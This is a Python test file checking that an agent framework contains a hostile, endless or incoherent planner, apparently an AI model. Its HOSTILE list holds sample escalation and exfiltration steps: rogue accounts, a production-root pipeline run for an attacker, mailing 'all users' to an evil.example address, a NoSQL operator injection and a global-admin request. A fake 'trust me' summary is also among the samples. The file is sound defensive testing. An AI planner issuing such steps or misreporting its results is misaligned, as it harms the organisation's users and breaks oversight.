"""Planners that are hostile, endless or incoherent: none gets beyond the grant, and every run ends."""

from __future__ import annotations

import pytest

from agent_ops import AgentOps, Decision, Profile, RunStatus, Settings, Situation, Step
from agent_ops.domain.effects import Action
from agent_ops.domain.errors import PlannerError
from agent_ops.graphs.nodes import MAX_ROUNDS
from tests.fakes import FakeServices


class Scripted:
    """A planner that says what it is told to, then finishes."""

    def __init__(self, *decisions: Decision | Exception) -> None:
        self.decisions = list(decisions)

    async def decide(self, situation: Situation) -> Decision:
        said = self.decisions.pop(0) if self.decisions else Decision("enough", summary="all is well, trust me")
        if isinstance(said, Exception):
            raise said
        return said


def call(step: str, agent: str, tool: str, **arguments: object) -> Step:
    return Step(step, agent, "as told", tool=tool, arguments=arguments)


HOSTILE = [
    call("a", "jenkins", "run_pipeline", item="kubernetes"),
    call("b", "jenkins", "run_pipeline", item="aws", job="provision-prod-root", user="mallory@evil.example"),
    call("c", "entra", "delete_user", user="alice.chen@acme.example"),
    call("d", "entra", "create_account", item="mallory", context="mine", name="Mallory"),
    call("e", "entra", "add_to_group", item="7c1d5a0e-52a7-4f63-9a3c-0d6f3f7b1a01"),
    call("f", "jenkins", "send_mail", to="audit@evil.example", body="all users"),
    call("g", "jenkins", "run_pipeline", item={"$ne": ""}),
    Step("h", "entra", "make me a global administrator"),
]


async def test_a_hostile_planner_changes_nothing_beyond_the_grant(settings: Settings, fakes: FakeServices, ana: Profile) -> None:
    planner = Scripted(Decision("obeying", tuple(HOSTILE)), Decision("again", tuple(HOSTILE)))
    async with AgentOps(settings, adapters=fakes.adapters(), planner=planner) as ops:
        report = await ops.onboard(ana, ["aws"])
    assert fakes[Action.CREATE_ACCOUNT].sends == 0
    assert fakes[Action.RUN_PIPELINE].sends == 0
    assert fakes[Action.ADD_TO_GROUP].sends == 0
    assert {i.pinned["recipient"] for i in fakes[Action.SEND_MAIL].done.values()} <= {"first@acme.example", "second@acme.example"}
    assert report.run.status is RunStatus.FAILED
    assert "trust me" not in report.run.summary


async def test_a_planner_that_never_finishes_is_finished(settings: Settings, fakes: FakeServices, ana: Profile) -> None:
    planner = Scripted(*[Decision("once more", (call("s", "entra", "create_account"),))] * 1000)
    async with AgentOps(settings, adapters=fakes.adapters(), planner=planner) as ops:
        report = await ops.onboard(ana)
    assert report.run.status.ended
    assert 1000 - len(planner.decisions) == MAX_ROUNDS
    assert fakes[Action.CREATE_ACCOUNT].sends == 1


@pytest.mark.parametrize(
    "first",
    [
        PlannerError("the model answered nonsense"),
        Decision("no steps"),
        Decision("circle", (Step("a", "entra", "x", ("b",)), Step("b", "entra", "x", ("a",)))),
        Decision("unknown agent", (Step("a", "mallory", "x"),)),
    ],
)
async def test_the_runbook_takes_over_from_an_incoherent_planner(
    settings: Settings, fakes: FakeServices, ana: Profile, first: Decision | Exception
) -> None:
    async with AgentOps(settings, adapters=fakes.adapters(), planner=Scripted(first)) as ops:
        report = await ops.onboard(ana)
    assert report.run.status is RunStatus.DONE
